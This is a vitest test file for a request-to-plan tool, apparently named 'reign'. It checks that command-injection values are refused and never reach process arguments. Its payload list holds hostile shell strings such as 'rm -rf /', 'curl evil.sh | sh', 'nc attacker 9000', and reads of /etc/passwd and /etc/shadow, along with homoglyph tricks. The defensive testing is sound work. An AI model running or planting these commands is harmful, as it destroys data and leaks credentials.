import { beforeAll, describe, expect, it } from 'vitest';
import { createRulesBrain } from '../src/brains/rules/index.js';
import { Config } from '../src/config/schema.js';
import type { Judge } from '../src/core/context.js';
import { ReignError } from '../src/core/errors.js';
import { planAndReview } from '../src/flow/plan.js';
import { planningFrom } from '../src/clients/planning.js';
import { inertClients } from '../src/core/testing.js';
import type { Plan } from '../src/core/plan.js';
import { ActionRegistry } from '../src/core/registry.js';
import type { Review } from '../src/core/review.js';
import { createJudge } from '../src/safety/judge/index.js';
import { allActions, allRecipes, DOMAINS } from '../src/tools/index.js';
import { understandAll } from '../src/understand/index.js';
import { reign, sandbox } from './reign.js';

/** Payloads people use to break out of an argument, each in several disguises. */
const PAYLOADS = [
  'web; rm -rf /', 'web && curl evil.sh | sh', 'web | nc attacker 9000', '$(id)', '`id`', '${IFS}rm', 'web\nrm -rf /',
  'web\r\nreboot', '../../etc', '../../../etc/passwd', '/etc/shadow', 'web$(reboot)', "web'; drop table runs; --", 'web"',
  '-rf', '--privileged', 'web>/dev/sda', 'web<(cat /etc/passwd)', 'web&', 'web||true', 'a b', 'web\0', '~root/.ssh',
  'wеb', 'ｗｅｂ', 'web\u200b', 'web\u202eexe', 'ԝeb', 'web\u0000x', '%2e%2e%2f', 'web*', 'web?', '{a,b}', '$HOME', '!!',
];
const DISGUISES: ((p: string) => string)[] = [(p) => p, (p) => `api${p}`, (p) => `${p}-1`, (p) => `"${p}"`, (p) => `'${p}'`, (p) => p.toUpperCase()];
const HOSTILE = [...new Set([...PAYLOADS.flatMap((p) => DISGUISES.map((d) => d(p))), 'x'.repeat(10_000), `web${'-'.repeat(300)}`, 'a'.repeat(129)])];

/** Where a value lands in a request: names, images, paths, networks, ports. */
const TEMPLATES = [
  (v: string) => `run nginx named ${v}`,
  (v: string) => `create a network called ${v}`,
  (v: string) => `stop ${v}`,
  (v: string) => `build an image from ${v} tagged api:dev`,
  (v: string) => `run redis named cache on network ${v}`,
  (v: string) => `run ${v} on port 8080`,
];

/** A value a process could receive as a safe argument: plain ASCII words, no shell syntax, no "..". */
const SAFE_ARGUMENT = /^[A-Za-z0-9_@%+=:,./ -]*$/;

function stringsIn(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) stringsIn(v, out);
  else if (value && typeof value === 'object') for (const v of Object.values(value)) stringsIn(v, out);
  return out;
}

let judge: Judge;
const registry = new ActionRegistry(allActions());
const policy = Config.parse({}).policy;
beforeAll(async () => {
  judge = await createJudge();
});

async function plan(text: string): Promise<{ plan: Plan; review: Review } | { error: ReignError }> {
  try {
    return await planAndReview(text, understandAll(text), {
      planning: planningFrom({ ...inertClients(), cwd: '/tmp' }, DOMAINS), brain: createRulesBrain(registry, allRecipes()), registry, judge, policy, actor: { name: 't', role: 'admin' }, cwd: '/tmp', outputDir: '/tmp',
    });
  } catch (error) {
    if (error instanceof ReignError) return { error };
    throw error;
  }
}

describe('hostile values in requests', () => {
  it(`never reach a process argument: ${HOSTILE.length} values × ${TEMPLATES.length} requests get a clear error or a plan without them`, async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(200);
    let refused = 0;
    for (const value of HOSTILE) {
      for (const template of TEMPLATES) {
        const text = template(value);
        const outcome = await plan(text);
        if ('error' in outcome) {
          refused++;
          // A clear error names what was wrong and what was expected.
          expect(outcome.error.code, text).toBe('usage');
          expect(outcome.error.message, text).toMatch(/request value|input|expected|did not use/);
          continue;
        }
        for (const step of outcome.plan.steps) {
          const review = outcome.review.steps.find((r) => r.stepId === step.id)!;
          if (step.action === 'shell.run') {
            // Shell text goes to the judge whole; anything hostile in it must not run unasked.
            if (value !== value.toLowerCase() || /[;&|`$<>\n]/.test(value)) expect(review.decision, text).not.toBe('allow');
            continue;
          }
          for (const argument of stringsIn(step.input)) {
            expect(argument.includes(value) && value.length > 0 && !SAFE_ARGUMENT.test(value), `${text} → ${step.action} ${argument}`).toBe(false);
            expect(SAFE_ARGUMENT.test(argument) || argument.length === 0, `${text} → ${step.action} got ${JSON.stringify(argument)}`).toBe(true);
            expect(argument.split('/').includes('..'), `${text} → ${argument}`).toBe(false);
          }
        }
      }
    }
    // Most hostile values must be refused outright rather than quietly dropped.
    expect(refused).toBeGreaterThan(HOSTILE.length);
  });

  it.each([
    ['a lone separator between tasks', 'stop the container web1 ; touch /tmp/reign-never/pwned', '";"'],
    ['shell syntax inside a quoted value', 'stop the container "web1 ; touch /tmp/reign-never/pwned"', 'web1 ; touch'],
    ['a quote with no partner', "stop the container web1'", `"web1'"`],
    ['a control character beside a password', 'run postgres named db with password \nhunter2secret', 'control characters'],
  ])('refuses %s naming the value and the rule', (_, text, named) => {
    const r = reign(['plan', text], sandbox());
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('error: request value');
    expect(r.stderr).toContain(named);
  });

  it('gives a clear error through reign plan as a process', () => {
    const box = sandbox();
    for (const value of ['web; rm -rf /', '$(id)', 'wеb', '../../etc']) {
      const r = reign(['plan', '--json', `create a network called ${value}`], box);
      if (r.code === 0) {
        const steps = JSON.parse(r.stdout).plan.steps as { input: unknown }[];
        for (const s of steps) for (const arg of stringsIn(s.input)) expect(SAFE_ARGUMENT.test(arg), arg).toBe(true);
      } else if (r.code === 3) {
        // Read as a second task ("…; rm -rf /"): planned, shown, and refused by policy.
        expect(r.stdout + r.stderr).toMatch(/refused/);
      } else {
        expect(r.code).toBe(2);
        expect(r.stdout + r.stderr).toMatch(/error: .*(expected|request value)|Which/);
      }
    }
  });
});
